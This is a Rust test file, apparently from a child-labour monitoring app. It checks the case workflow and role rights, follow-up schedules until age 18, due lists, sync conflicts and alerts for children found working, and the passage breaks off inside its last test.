//! The monitoring cycle on real store files: the case workflow and its roles, follow-up
//! schedules and due lists, visit review, urgent alerts and urgent-first sync, duplicate
//! children, indicators with small-cell suppression, and pseudonymised exports.

use crate::common;

use chrono::NaiveDate;
use common::{at, date};
use std::collections::BTreeSet;
use tempfile::TempDir;
use uuid::Uuid;
use vigie_core::*;

/// A workplace of community C01, stored.
fn plantation(store: &mut Store) -> Workplace {
    store
        .create(&Workplace::new(
            "Plantation Kouamé",
            "cocoa",
            Formality::Informal,
            area(C01),
        ))
        .unwrap()
}

/// The store, acting as `role` (as a hub would have told it at a sync; `common::act_as`).
fn as_role(store: &mut Store, role: Role) -> &mut Store {
    if store.user_profile().unwrap().map(|p| p.role) != Some(role) {
        common::act_as(store, role, &["CI-R1"]);
    }
    store
}

const MONITOR: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a01);
const MONITOR_2: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a02);
const SUPERVISOR: Uuid = Uuid::from_u128(0x0195_0000_0000_7000_8000_0000_0000_0a03);

const C01: &str = "CI-R1-D1-C01";
const C02: &str = "CI-R1-D1-C02";

fn area(community: &str) -> Area {
    Area::new("CI", "CI-R1", "CI-R1-D1", community)
}

fn open(dir: &TempDir, name: &str, user: Uuid) -> Store {
    Store::open(StoreConfig::new(
        dir.path().join(name),
        Encryption::Unencrypted,
        user,
    ))
    .unwrap()
}

/// A child of 11 (born 2014-05-10) carrying loads 25 hours a week: child labour.
fn child(community: &str, name: &str, by: Uuid) -> ChildCase {
    let mut c = ChildCase::new(
        &format!("CASE-{}", &Uuid::new_v4().simple().to_string()[..8]),
        name,
        Sex::Female,
        area(community),
        date(2025, 9, 1),
        by,
    );
    c.date_of_birth = Some(date(2014, 5, 10));
    c.hours_per_week = 25;
    c
}

fn referral() -> Referral {
    Referral {
        service: ServiceKind::Education,
        provider: "École primaire publique".into(),
        date: date(2025, 9, 10),
        outcome: String::new(),
    }
}

fn follow_up(on: NaiveDate) -> FollowUp {
    FollowUp {
        date: on,
        situation: FollowUpSituation::InSchool,
        notes: "Va à l'école, ne travaille plus.".into(),
        next_due: None,
    }
}

fn not_allowed<T: std::fmt::Debug>(r: Result<T>) -> String {
    match r {
        Err(Error::NotAllowed { rule }) => rule,
        other => panic!("expected NotAllowed, got {other:?}"),
    }
}

/// Identified → referred → receiving services → withdrawn, by the roles allowed.
fn remediated_case(store: &mut Store, name: &str, on: NaiveDate) -> ChildCase {
    remediated(store, &child(C01, name, MONITOR), referral(), on)
}

/// `case` stored, referred by `referral`, then receiving services and withdrawn `on`.
fn remediated(store: &mut Store, case: &ChildCase, referral: Referral, on: NaiveDate) -> ChildCase {
    let c = store.create(case).unwrap();
    as_role(store, Role::CommunityMonitor)
        .refer_case(c.id, referral)
        .unwrap();
    as_role(store, Role::CommunityMonitor)
        .transition_case_on(c.id, CaseStatus::ReceivingServices, on)
        .unwrap();
    as_role(store, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, on)
        .unwrap()
}

/// A child who turns 18 today with a follow-up that fell due before the birthday: the due
/// lists leave the case today, and so do the console's case page and the export's
/// `follow_up_due` (EXPORTS.md: "as the due lists show it"), which kept the date for good.
#[test]
fn a_child_turned_18_has_no_follow_up_due_in_the_lists_or_the_export() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let today = chrono::Local::now().date_naive();
    let mut turning = child(C01, "Yao Koffi", MONITOR);
    turning.identified_on = today - chrono::Days::new(200);
    turning.date_of_birth = today.checked_sub_months(chrono::Months::new(12 * 18));
    let mut referred = referral();
    referred.date = today - chrono::Days::new(150);
    let case = remediated(
        &mut store,
        &turning,
        referred,
        today - chrono::Days::new(93),
    );
    assert_eq!(case.adult_on(), Some(today));
    // Due before the birthday (three months after the verification), and overdue now.
    let due = case.next_follow_up_due().expect("due before the birthday");
    assert!(due < today, "{due}");
    assert_eq!(case.follow_up_due_on(today, case.adult_on()), None);
    assert_eq!(
        case.follow_up_due_on(today - chrono::Days::new(1), case.adult_on()),
        Some(due)
    );
    let listed = store
        .follow_ups_due(None, None, date(2100, 1, 1), Page::first(10))
        .unwrap();
    assert!(listed.is_empty(), "{listed:?}");
    let out = dir.path().join("export");
    as_role(&mut store, Role::Supervisor)
        .export_to_dir(&out, ExportFormat::Csv, ExportOptions::default())
        .unwrap();
    let (header, rows) = read_csv(&out.join("child_cases.csv"));
    let column = header.iter().position(|h| h == "follow_up_due").unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][column], "");
}

// ---------------------------------------------------------------------------------------------
// 1. Workflow

#[test]
fn case_moves_through_the_monitoring_cycle_by_the_roles_allowed() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let c = store.create(&child(C01, "Kouamé Adjoa", MONITOR)).unwrap();
    assert_eq!(c.status, CaseStatus::Identified);

    // Referral: a monitor may (an inspector too: `inspectors_open_and_refer_cases`); the
    // referral is recorded with it. An inspector may not take the case further.
    not_allowed(
        as_role(&mut store, Role::Inspector).transition_case(c.id, CaseStatus::ReceivingServices),
    );
    let rule = not_allowed(
        as_role(&mut store, Role::Supervisor).transition_case(c.id, CaseStatus::Referred),
    );
    assert!(rule.contains("refer_case"), "{rule}");
    let (c, key) = as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    assert_eq!(c.status, CaseStatus::Referred);
    assert_eq!(c.referrals[&key], referral());
    // A further referral keeps the status.
    let (c, _) = as_role(&mut store, Role::Supervisor)
        .refer_case(c.id, referral())
        .unwrap();
    assert_eq!((c.status, c.referrals.len()), (CaseStatus::Referred, 2));

    // Skipping a stage is refused by the state machine.
    let rule = not_allowed(
        as_role(&mut store, Role::Supervisor).transition_case(c.id, CaseStatus::Withdrawn),
    );
    assert!(rule.contains("from referred to withdrawn"), "{rule}");
    let c = as_role(&mut store, Role::CommunityMonitor)
        .transition_case(c.id, CaseStatus::ReceivingServices)
        .unwrap();
    assert_eq!(c.status, CaseStatus::ReceivingServices);
    assert_eq!(c.follow_up_due, None, "no follow-up before remediation");

    // Verification is a supervisor's.
    let rule = not_allowed(
        as_role(&mut store, Role::CommunityMonitor).transition_case(c.id, CaseStatus::Withdrawn),
    );
    assert!(rule.contains("only a supervisor"), "{rule}");
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, date(2025, 10, 15))
        .unwrap();
    assert_eq!(c.status, CaseStatus::Withdrawn);
    assert_eq!(c.remediated_on, Some(date(2025, 10, 15)));
    assert_eq!(c.follow_up_due, Some(date(2026, 1, 15)), "3 months after");

    // A referral after verification is refused; closing is a supervisor's, once a follow-up
    // after the verification found the child not working.
    not_allowed(as_role(&mut store, Role::Supervisor).refer_case(c.id, referral()));
    not_allowed(
        as_role(&mut store, Role::CommunityMonitor).transition_case(c.id, CaseStatus::Closed),
    );
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 1, 15)))
        .unwrap();
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Closed)
        .unwrap();
    assert_eq!(c.status, CaseStatus::Closed);
    not_allowed(as_role(&mut store, Role::Supervisor).transition_case(c.id, CaseStatus::Closed));
    // Reopening is a supervisor's too (`a_child_found_working_again_is_reopened_and_referred`).
    let rule = not_allowed(
        as_role(&mut store, Role::CommunityMonitor).transition_case(c.id, CaseStatus::Identified),
    );
    assert!(rule.contains("only a supervisor may reopen"), "{rule}");

    // Every step is in the history, authored by the store's user.
    let history = store.history(c.id).unwrap();
    let status_changes = history
        .iter()
        .filter(|h| h.fields.iter().any(|f| f == "status"))
        .count();
    assert_eq!(
        status_changes, 5,
        "created identified, then referred, receiving, withdrawn, closed"
    );
    assert!(
        history
            .iter()
            .all(|h| h.author.as_ref().is_some_and(|a| a.user == MONITOR))
    );
}

#[test]
fn the_transition_table_is_exactly_the_documented_one() {
    use CaseStatus::*;
    let statuses = [
        Identified,
        Referred,
        ReceivingServices,
        Withdrawn,
        Prevented,
        Closed,
    ];
    let roles = [Role::Inspector, Role::CommunityMonitor, Role::Supervisor];
    let mut allowed = BTreeSet::new();
    for from in statuses {
        for to in statuses {
            for (r, role) in roles.iter().enumerate() {
                // Every refusal is a `NotAllowed` naming its rule.
                if check_case_transition(from, to, *role).is_ok() {
                    allowed.insert((from, to, r));
                }
            }
        }
    }
    // Reopening (withdrawn, prevented or closed → identified) is a supervisor's, as are
    // verification and closing (rights.rs, ARCHITECTURE.md).
    let expected: BTreeSet<_> = [
        (Referred, ReceivingServices, 1),
        (Referred, ReceivingServices, 2),
        (ReceivingServices, Withdrawn, 2),
        (ReceivingServices, Prevented, 2),
        (Withdrawn, Closed, 2),
        (Prevented, Closed, 2),
        (Withdrawn, Identified, 2),
        (Prevented, Identified, 2),
        (Closed, Identified, 2),
    ]
    .into_iter()
    .collect();
    assert_eq!(allowed, expected);
}

#[test]
fn follow_up_schedule_is_3_and_6_months_then_yearly_until_18() {
    let rules = RuleSet::ilo_default();
    assert_eq!(rules.thresholds.follow_up_months, vec![3, 6]);
    assert_eq!(rules.thresholds.follow_up_yearly_until_age, 18);
    // Remediated 2025-10-15; 18 on 2028-05-10.
    let dates: Vec<NaiveDate> = rules
        .follow_up_schedule(date(2025, 10, 15), Some(date(2028, 5, 10)))
        .collect();
    assert_eq!(
        dates,
        vec![
            date(2026, 1, 15),
            date(2026, 4, 15),
            date(2027, 4, 15),
            date(2028, 4, 15),
        ]
    );
    // The rule set's schedule lists the 3- and 6-month visits whatever the age, and yearly ones
    // stop before 18; a case's due date is never on or after the birthday
    // (`no_follow_up_is_due_on_or_after_the_18th_birthday`).
    let dates: Vec<NaiveDate> = rules
        .follow_up_schedule(date(2025, 10, 15), Some(date(2026, 2, 1)))
        .collect();
    assert_eq!(dates, vec![date(2026, 1, 15), date(2026, 4, 15)]);
    assert_eq!(
        rules.next_follow_up_after(
            date(2025, 10, 15),
            Some(date(2028, 5, 10)),
            date(2026, 4, 15)
        ),
        Some(date(2027, 4, 15))
    );
    assert_eq!(
        rules.next_follow_up_after(
            date(2025, 10, 15),
            Some(date(2028, 5, 10)),
            date(2028, 4, 15)
        ),
        None
    );
    // A profile without the new fields reads with the defaults.
    let mut json = serde_json::to_value(&rules).unwrap();
    let map = json.as_object_mut().unwrap();
    map.remove("follow_up_months");
    map.remove("follow_up_yearly_until_age");
    let old: RuleSet = serde_json::from_value(json).unwrap();
    assert_eq!(old, rules);
    // The age limit from an estimated age: 11 when identified on 2025-09-01 → 18 in 2032.
    let mut c = child(C01, "Aya", MONITOR);
    c.date_of_birth = None;
    c.estimated_age = Some(11);
    assert_eq!(c.reaches_age_on(18), Some(date(2032, 9, 1)));
    // Born on 29 February: 17 on 28 February 2026, 18 on 1 March, by both counts.
    c.date_of_birth = Some(date(2008, 2, 29));
    assert_eq!(c.age_on(date(2026, 2, 28)), Some(17));
    assert_eq!(c.reaches_age_on(18), Some(date(2026, 3, 1)));
    assert_eq!(c.age_on(date(2026, 3, 1)), Some(18));
    c.date_of_birth = Some(date(2008, 3, 1));
    assert_eq!(c.reaches_age_on(18), Some(date(2026, 3, 1)));
}

#[test]
fn follow_ups_advance_along_the_schedule_in_the_due_lists() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let c = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    let other = store.create(&child(C02, "Yao Koffi", MONITOR_2)).unwrap();
    let _ = other;

    // The first follow-up is due 3 months after remediation, on the monitor's list and the
    // community's, overdue once the day has passed.
    let due = |store: &Store, area: Option<AreaFilter>, who: Option<Uuid>, before| {
        store
            .follow_ups_due(area, who, before, Page::first(50))
            .unwrap()
            .iter()
            .map(|d| (d.id, d.due))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        due(&store, None, Some(MONITOR), date(2026, 1, 16)),
        vec![(c.id, date(2026, 1, 15))]
    );
    assert!(due(&store, None, Some(MONITOR), date(2026, 1, 15)).is_empty());
    assert!(due(&store, None, Some(MONITOR_2), date(2030, 1, 1)).is_empty());
    assert_eq!(
        due(
            &store,
            Some(AreaFilter::Community(C01.into())),
            None,
            date(2026, 2, 1)
        ),
        vec![(c.id, date(2026, 1, 15))]
    );
    assert!(
        due(
            &store,
            Some(AreaFilter::Community(C02.into())),
            None,
            date(2030, 1, 1)
        )
        .is_empty()
    );
    // A follow-up made late (in February) answers the January one: the April one is next.
    not_allowed(
        as_role(&mut store, Role::Inspector).add_follow_up(c.id, follow_up(date(2026, 2, 2))),
    );
    let (c, key) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 2, 2)))
        .unwrap();
    assert_eq!(c.followups[&key].next_due, Some(date(2026, 4, 15)));
    assert_eq!(c.follow_up_due, Some(date(2026, 4, 15)));
    assert_eq!(
        due(&store, None, Some(MONITOR), date(2026, 12, 31)),
        vec![(c.id, date(2026, 4, 15))]
    );

    // Closing keeps the yearly checks until 18 (born 2014-05-10 → until 2032-05-10).
    let c = as_role(&mut store, Role::Supervisor)
        .transition_case(c.id, CaseStatus::Closed)
        .unwrap();
    let (c, _) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 4, 20)))
        .unwrap();
    assert_eq!(c.follow_up_due, Some(date(2027, 4, 15)));
    // A follow-up a month before the 18th birthday (a day after today can be recorded only
    // later: the rule set judges the case as it will be then).
    let mut later = c.clone();
    later
        .followups
        .insert(Uuid::now_v7(), follow_up(date(2032, 4, 16)));
    let rules = store.reference().rule_set_of(&later).unwrap().clone();
    assert_eq!(
        rules.next_follow_up(&later),
        None,
        "the schedule ends at 18"
    );
    // A follow-up made up to two weeks before a planned one answers it (the monitor who saw
    // the child in school ten days early is not due again, then overdue); one made earlier
    // leaves it due.
    let seen_on = |day| {
        let mut seen = c.clone();
        seen.followups.insert(Uuid::now_v7(), follow_up(day));
        rules.next_follow_up(&seen)
    };
    assert_eq!(seen_on(date(2027, 4, 5)), Some(date(2028, 4, 15)));
    assert_eq!(seen_on(date(2027, 4, 1)), Some(date(2028, 4, 15)));
    assert_eq!(seen_on(date(2027, 3, 31)), Some(date(2027, 4, 15)));
    // A workplace to visit again is due too; a kind asked for lists that kind alone, chosen in
    // the query (the page holds as many of that kind as it can).
    let w = plantation(&mut store);
    let mut v = Visit::new(
        VisitKind::CommunityMonitoring,
        &w,
        MONITOR,
        at(2026, 1, 5, 9),
    );
    v.follow_up_due = Some(date(2026, 1, 10));
    let v = store.create(&v).unwrap();
    let of = |kind| {
        store
            .follow_ups_due_of(kind, None, None, date(2028, 1, 1), Page::first(1))
            .unwrap()
            .iter()
            .map(|d| (d.id, d.kind))
            .collect::<Vec<_>>()
    };
    assert_eq!(of(None), vec![(v.id, RecordKind::Visit)], "soonest first");
    assert_eq!(
        of(Some(RecordKind::ChildCase)),
        vec![(c.id, RecordKind::ChildCase)]
    );
    assert_eq!(of(Some(RecordKind::Visit)), vec![(v.id, RecordKind::Visit)]);
    // A dashboard's figures, counted as the lists list.
    let count = |kind| {
        store
            .follow_ups_due_count(kind, None, None, date(2028, 1, 1))
            .unwrap()
    };
    assert_eq!((count(None), count(Some(RecordKind::ChildCase))), (2, 1));
}

/// A visit's planned re-inspection cleared on one of its visitor's devices while moved on
/// another: a conflict, and the visit stays due by the day one of them planned, whichever the
/// merge shows (it left the due lists when the cleared value was the one shown).
#[test]
fn a_visit_due_side_by_side_with_a_clearing_stays_due() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    as_role(&mut store, Role::CommunityMonitor);
    let w = plantation(&mut store);
    let mut v = Visit::new(
        VisitKind::CommunityMonitoring,
        &w,
        MONITOR,
        at(2026, 1, 5, 9),
    );
    v.follow_up_due = Some(date(2026, 1, 10));
    let v = store.create(&v).unwrap();
    let held = store.export_document(v.id).unwrap();
    // The other device, from the same version: the visit planned a month later.
    let mut other = automerge::Automerge::load(&held)
        .unwrap()
        .with_actor(automerge::ActorId::random());
    let mut moved: Visit = vigie_core::doc::read_record(&other, v.id).unwrap();
    moved.follow_up_due = Some(date(2026, 2, 10));
    let author = ChangeAuthor {
        user: MONITOR,
        device: Uuid::now_v7(),
    };
    vigie_core::doc::write_record(&mut other, &moved, &author).unwrap();
    let mut cleared = v.clone();
    cleared.follow_up_due = None;
    store.update(&cleared).unwrap();
    store.merge_document(v.id, &other.save()).unwrap();

    let conflicts = store.conflicts(v.id).unwrap();
    assert!(
        conflicts.iter().any(|c| c.field() == "follow_up_due"),
        "{conflicts:?}"
    );
    // Due by the later day planned, the one side by side with the clearing.
    let visits_due = |store: &Store| {
        store
            .follow_ups_due_of(
                Some(RecordKind::Visit),
                None,
                None,
                date(2028, 1, 1),
                Page::first(5),
            )
            .unwrap()
            .iter()
            .map(|d| (d.id, d.due))
            .collect::<Vec<_>>()
    };
    assert_eq!(visits_due(&store), vec![(v.id, date(2026, 2, 10))]);
    // A phone receiving the visit merged already (a new phone, a supervisor's) lists it so.
    let mut fresh = open(&dir, "fresh.db", SUPERVISOR);
    as_role(&mut fresh, Role::Supervisor);
    fresh
        .merge_document(w.id, &store.export_document(w.id).unwrap())
        .unwrap();
    fresh
        .merge_document(v.id, &store.export_document(v.id).unwrap())
        .unwrap();
    assert_eq!(visits_due(&fresh), vec![(v.id, date(2026, 2, 10))]);
}

/// A child who turns 18 before the schedule's next date: a follow-up may still plan one before
/// the birthday; one planned on or after it is refused, naming the field and the day (it was
/// dropped with nothing said, and a supervisor's form reported it recorded).
/// A withdrawn child found still working at a follow-up is alerted on the day of that
/// follow-up (the alerts are listed newest first): a relapse found this week is not filed
/// among the identifications of months ago, nor drawn on their month's map.
#[test]
fn a_child_found_working_at_a_follow_up_is_alerted_on_that_day() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let mut w = Workplace::new("Plantation Kouamé", "cocoa", Formality::Informal, area(C01));
    w.location.point = Some(GeoPoint {
        latitude: 6.8,
        longitude: -5.25,
        accuracy_m: None,
    });
    let w = store.create(&w).unwrap();
    let mut c = child(C01, "Kouamé Adjoa", MONITOR);
    c.workplace_id = Some(w.id);
    let c = remediated(&mut store, &c, referral(), date(2025, 10, 15));
    let seen = FollowUp {
        situation: FollowUpSituation::StillWorking,
        ..follow_up(date(2026, 2, 3))
    };
    as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, seen)
        .unwrap();
    let alert = store
        .alerts(None, Page::first(10))
        .unwrap()
        .into_iter()
        .find(|a| a.id == c.id)
        .expect("the child is alerted");
    assert_eq!(alert.at.date_naive(), date(2026, 2, 3));
    // The map of the month the relapse was found colours the workplace; the month the child
    // was identified in stays as it was drawn then.
    let supervisor = vigie_core::sync::Principal {
        user: SUPERVISOR,
        device: Uuid::now_v7(),
        role: Role::Supervisor,
        areas: [C01.to_string()].into(),
    };
    let worst = |from, until| {
        store
            .scoped(&supervisor)
            .places(from, until, 10)
            .unwrap()
            .workplaces
            .iter()
            .find(|p| p.id == w.id)
            .expect("the workplace is drawn")
            .severity
    };
    assert!(worst(date(2026, 2, 1), date(2026, 3, 1)).is_some());
    assert_eq!(worst(date(2025, 9, 1), date(2025, 10, 1)), None);
}

/// A child whose age is not established (a merge cleared both its date of birth and its
/// estimate) and in whom nothing observed is work is not child labour, as with an age known;
/// working, the child is taken as below the minimum age.
#[test]
fn a_child_of_unknown_age_not_working_is_not_child_labour() {
    let dir = TempDir::new().unwrap();
    let store = open(&dir, "device.db", MONITOR);
    let mut unknown = child(C01, "Kouamé Adjoa", MONITOR);
    unknown.date_of_birth = None;
    unknown.estimated_age = None;
    unknown.hours_per_week = 0;
    unknown.night_work = false;
    unknown.hazards.clear();
    let reference = store.reference();
    let rules = reference.rule_set_of(&unknown).unwrap();
    assert_eq!(
        rules.classify(&unknown).outcome,
        ClassificationOutcome::NotChildLabour
    );
    unknown.hours_per_week = 5;
    assert_eq!(
        rules.classify(&unknown).outcome,
        ClassificationOutcome::ChildLabour
    );
}

/// A monitor who saw an 8-year-old breaking cocoa pods but could not establish her hours
/// (0, not noted) registers a child at work: child labour, listed so, whatever age is known;
/// at the light work age, light work whose hours are to be noted.
#[test]
fn a_child_whose_work_is_described_works_though_no_hours_were_noted() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let mut seen = child(C01, "Kouamé Adjoa", MONITOR);
    seen.date_of_birth = None;
    seen.estimated_age = Some(8);
    seen.hours_per_week = 0;
    seen.night_work = false;
    seen.hazards.clear();
    seen.school = SchoolStatus::Attending;
    seen.tasks = BTreeSet::from(["écabossage".to_string()]);
    let stored = store.create(&seen).unwrap();
    let outcome = |c: &ChildCase| c.classification.as_ref().map(|k| k.outcome);
    assert_eq!(outcome(&stored), Some(ClassificationOutcome::ChildLabour));
    let listed = ChildCaseQuery {
        classification: Some(ClassificationOutcome::ChildLabour),
        ..Default::default()
    };
    assert_eq!(store.child_cases(&listed, Page::first(5)).unwrap().len(), 1);
    let mut unknown_age = seen.clone();
    unknown_age.estimated_age = None;
    unknown_age.tasks.clear();
    unknown_age.activity = "Récolte de cacao".into();
    let reference = store.reference();
    let rules = reference.rule_set_of(&unknown_age).unwrap();
    assert_eq!(
        rules.classify(&unknown_age).outcome,
        ClassificationOutcome::ChildLabour
    );
    let mut light = unknown_age.clone();
    light.estimated_age = Some(13);
    let judged = rules.classify(&light);
    assert_eq!(judged.outcome, ClassificationOutcome::NotChildLabour);
    assert!(judged.reason.contains("note them"), "{}", judged.reason);
    light.activity = " ".into();
    assert_eq!(rules.classify(&light).reason, "not working");
}

#[test]
fn no_follow_up_is_planned_once_the_child_is_of_age() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let mut young = child(C01, "Adjoua Koné", MONITOR);
    young.date_of_birth = Some(date(2008, 6, 1)); // 18 on 2026-06-01
    let c = store.create(&young).unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .refer_case(c.id, referral())
        .unwrap();
    as_role(&mut store, Role::CommunityMonitor)
        .transition_case_on(c.id, CaseStatus::ReceivingServices, date(2025, 10, 15))
        .unwrap();
    as_role(&mut store, Role::Supervisor)
        .transition_case_on(c.id, CaseStatus::Withdrawn, date(2025, 10, 15))
        .unwrap();
    // The 3- and 6-month visits; the yearly one would fall after the birthday.
    for on in [date(2026, 1, 15), date(2026, 4, 15)] {
        as_role(&mut store, Role::CommunityMonitor)
            .add_follow_up(c.id, follow_up(on))
            .unwrap();
    }
    assert_eq!(store.get::<ChildCase>(c.id).unwrap().follow_up_due, None);
    let before = store.get::<ChildCase>(c.id).unwrap();
    for late in [date(2026, 6, 1), date(2028, 1, 1)] {
        let planned = FollowUp {
            situation: FollowUpSituation::AtRisk,
            next_due: Some(late),
            ..follow_up(date(2026, 5, 1))
        };
        match as_role(&mut store, Role::CommunityMonitor).add_follow_up(c.id, planned) {
            Err(Error::Validation(e)) => {
                assert_eq!(e.field, "follow_up.next_due");
                assert!(e.to_string().contains("2026-06-01"), "{e}");
            }
            other => panic!("expected a validation error, got {other:?}"),
        }
        assert_eq!(store.get::<ChildCase>(c.id).unwrap(), before);
    }
    let sooner = FollowUp {
        situation: FollowUpSituation::AtRisk,
        next_due: Some(date(2026, 5, 20)),
        ..follow_up(date(2026, 5, 1))
    };
    let (c, key) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, sooner)
        .unwrap();
    assert_eq!(c.followups[&key].next_due, Some(date(2026, 5, 20)));
    assert_eq!(c.follow_up_due, Some(date(2026, 5, 20)));
    // Nor by an edit of the case: a follow-up's plan moved past the birthday, or a new one.
    let mut moved = c.clone();
    moved.followups.get_mut(&key).unwrap().next_due = Some(date(2030, 1, 1));
    let mut added = c.clone();
    let new_key = Uuid::now_v7();
    added.followups.insert(
        new_key,
        FollowUp {
            next_due: Some(date(2029, 1, 1)),
            ..follow_up(date(2026, 5, 2))
        },
    );
    for (edited, field) in [(moved, key), (added, new_key)] {
        match store.update(&edited) {
            Err(Error::Validation(e)) => {
                assert_eq!(e.field, format!("followups.{field}.next_due"));
                assert!(e.to_string().contains("2026-06-01"), "{e}");
            }
            other => panic!("expected a validation error, got {other:?}"),
        }
    }
}

#[test]
fn a_follow_up_may_plan_the_next_one_sooner_than_the_schedule_never_later() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    let c = remediated_case(&mut store, "Kouamé Adjoa", date(2025, 10, 15));
    let due = |store: &Store| {
        store
            .follow_ups_due(None, Some(MONITOR), date(2030, 1, 1), Page::first(50))
            .unwrap()
            .iter()
            .map(|d| d.due)
            .collect::<Vec<_>>()
    };

    // Still at risk at the January visit: seen again in a month, not in April.
    let soon = FollowUp {
        situation: FollowUpSituation::AtRisk,
        next_due: Some(date(2026, 2, 15)),
        ..follow_up(date(2026, 1, 15))
    };
    let (c, key) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, soon)
        .unwrap();
    assert_eq!(c.followups[&key].next_due, Some(date(2026, 2, 15)));
    assert_eq!(c.follow_up_due, Some(date(2026, 2, 15)));
    assert_eq!(
        store.get::<ChildCase>(c.id).unwrap().follow_up_due,
        c.follow_up_due
    );
    assert_eq!(due(&store), vec![date(2026, 2, 15)]);

    // The visit of February plans nothing sooner: the schedule's April date is due again.
    let (c, _) = as_role(&mut store, Role::CommunityMonitor)
        .add_follow_up(c.id, follow_up(date(2026, 2, 16)))
        .unwrap();
    assert_eq!(c.follow_up_due, Some(date(2026, 4, 15)));
    assert_eq!(due(&store), vec![date(2026, 4, 15)]);

    // Later than the schedule is refused, naming the field and the date, and writes nothing.
    let late = FollowUp {
        next_due: Some(date(2026, 9, 1)),
        ..follow_up(date(2026, 3, 1))
    };
    let before = store.get::<ChildCase>(c.id).unwrap();
    match as_role(&mut store, Role::CommunityMonitor).add_follow_up(c.id, late) {
        Err(Error::Validation(e)) => {
            assert_eq!(e.field, "follow_up.next_due");
            assert!(e.to_string().contains("2026-04-15"), "{e}");
        }
        other => panic!("expected a validation error, got {other:?}"),
    }
    assert_eq!(store.get::<ChildCase>(c.id).unwrap(), before);
    // Every rule on the follow-up or referral given names its field as the call's input, the
    // same at every call.
    let bad_notes = FollowUp {
        notes: "x".repeat(40_000),
        ..follow_up(date(2026, 3, 1))
    };
    match as_role(&mut store, Role::CommunityMonitor).add_follow_up(c.id, bad_notes) {
        Err(Error::Validation(e)) => assert_eq!(e.field, "follow_up.notes"),
        other => panic!("expected a validation error, got {other:?}"),
    }
    let mut bad_referral = referral();
    bad_referral.provider = "Centre\nde santé".into();
    let open = store.create(&child(C01, "Yao Affoué", MONITOR)).unwrap();
    match as_role(&mut store, Role::CommunityMonitor).refer_case(open.id, bad_referral) {
        Err(Error::Validation(e)) => assert_eq!(e.field, "referral.provider"),
        other => panic!("expected a validation error, got {other:?}"),
    }
    assert_eq!(store.get::<ChildCase>(c.id).unwrap(), before);
    assert_eq!(
        store.get::<ChildCase>(open.id).unwrap().version,
        open.version
    );
}

#[test]
fn of_two_follow_ups_on_one_day_the_more_worrying_one_counts() {
    let dir = TempDir::new().unwrap();
    let mut store = open(&dir, "device.db", MONITOR);
    // Two monitors saw the child the same day: one found them still working, and plans a
    // visit in five days; the other found them in school. Whichever was recorded first (the
    // follow-ups' ids sort in that order), the case says "still working", due in five days.
    for (name, worrying_first) in [("Kouamé Adjoa", true), ("Yao Affoué", false)] {
        let mut c = remediated_case(&mut store, name, date(2025, 10, 15));
        let working = FollowUp {
            situation: FollowUpSituation::StillWorking,
            next_due: Some(date(2026, 1, 20)),
            ..follow_up(date(2026, 1, 15))
        };
        let in_school = seen(date(2026, 1, 15), FollowUpSituation::InSchool);
        let order = if worrying_first {
            [working, in_school]
        } else {
            [in_school, working]
        };
        for f in order {
            c = as_role(&mut store, Role::CommunityMonitor)
                .add_follow_up(c.id, f)
                .unwrap()
                .0;
        }
        assert_eq!(c.follow_up_due, Some(date(2026, 1, 20)), "{name}");
        let alerts = store.alerts(None, Page::first(50)).unwrap();
        assert!(
            alerts
                .iter()
                .any(|a| a.id == c.id && a.severity == AlertSeverity::StillWorking),
            "{name}: {alerts:?}"
        );
        // Nor may it be closed on the reassuring one.
        assert!(matches!(
            as_role(&mut store, Role::Supervisor).transition_case_on(
                c.id,
                CaseStatus::Closed,
                date(2026, 1, 16)
            ),
            Err(Error::NotAllowed { .. })
        ));
    }
    // The sooner visit one of them plans is kept, whichever observation counts.
    let mut c = remediated_case(&mut store, "Koffi Ama", date(2025, 10, 15));
    for f in [
        FollowUp {
            situation: FollowUpSituation::StillWorking,
            next_due: Some(date(2026, 2, 20)),
            ..follow_up(date(2026, 1, 15))
        },
        FollowUp {
            situation: FollowUpSituation::AtRisk,
            next_due: Some(date(2026, 1, 18)),
            ..follow_up(date(2026, 1, 15))
        },
    ] {
        c = as_role(&mut store, Role::CommunityMonitor)
            .add_follow_up(c.id, f)
            .unwrap()
            .0;
    }
    assert_eq!(c.follow_up_due, Some(date(2026, 1, 18)));
}

fn seen(on: NaiveDate, situation: FollowUpSituation) -> FollowUp {
    FollowUp {
        situation,
        notes: String::new(),
        ..follow_up(on)
    }
}

/// The verification is the latest word on the child's work: a child seen still working on the
/// day the supervisor would verify her withdrawn is not verified that day, one seen working the
/// day before and verified withdrawn the next is not alerted as still working (the case showed
/// "withdrawn" and "still working" at once), and a verification re-dated after the only
/// follow-up that closed the case is refused on its date, as closing on it would be.
#[test]
fn a_verification_follows_what_was_seen_and_its_date_keeps_the_status_it_stands_for() {
    let dir = TempDir::new().unwrap();
